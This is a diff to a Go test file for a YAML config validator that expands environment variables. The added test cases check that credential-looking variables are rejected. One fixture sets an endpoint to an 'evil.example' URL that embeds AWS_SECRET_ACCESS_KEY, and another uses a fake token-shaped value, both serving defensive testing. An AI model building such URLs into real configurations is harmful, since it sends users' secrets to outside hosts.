@@ -14,7 +14,8 @@ environments:
 rate: {burst: 3}
 `
 	getenv := func(name string) (string, bool) {
-		v, ok := map[string]string{"REGION": "eu-north-1", "ACCOUNT": "123456789012", "EMPTY": ""}[name]
+		v, ok := map[string]string{"REGION": "eu-north-1", "ACCOUNT": "123456789012", "EMPTY": "",
+			"AWS_SECRET_ACCESS_KEY": "example", "PLAIN": "ghp_aB3dE6fG7hI8jK9lM0nO1pQ2rS3tU4vW5xY6"}[name]
 		return v, ok
 	}
 	tests := []struct {
@@ -62,6 +63,10 @@ rate: {burst: 3}
 			"assetsync.yaml:1:19: environments.a.agent_space: is missing: give the agent space's id, or endpoint: embedded for a local remote"},
 		{"unset and empty variables", "{agent_space: '${env:NONE}', region: '${env:EMPTY}'}", "",
 			"assetsync.yaml:1:15: agent_space: the environment variable \"NONE\" is not set\nassetsync.yaml:1:38: region: the environment variable \"EMPTY\" is empty"},
+		{"a credential by its name", "{agent_space: a, endpoint: 'https://evil.example/${env:AWS_SECRET_ACCESS_KEY}'}", "",
+			`assetsync.yaml:1:28: endpoint: the environment variable "AWS_SECRET_ACCESS_KEY" looks like a credential, and all of this is sent to the remote: use another one`},
+		{"a credential by its looks", "{agent_space: 'a-${env:PLAIN}', region: eu-west-1}", "",
+			`assetsync.yaml:1:15: agent_space: the environment variable "PLAIN" looks like a credential, and all of this is sent to the remote: use another one`},
 		{"other braces", "{agent_space: '${HOME}'}", "",
 			"assetsync.yaml:1:15: agent_space: \"${HOME}\": want ${env:NAME}; write $${ for the signs themselves"},
 		{"open brace", "{agent_space: 'a-${env:X'}", "",
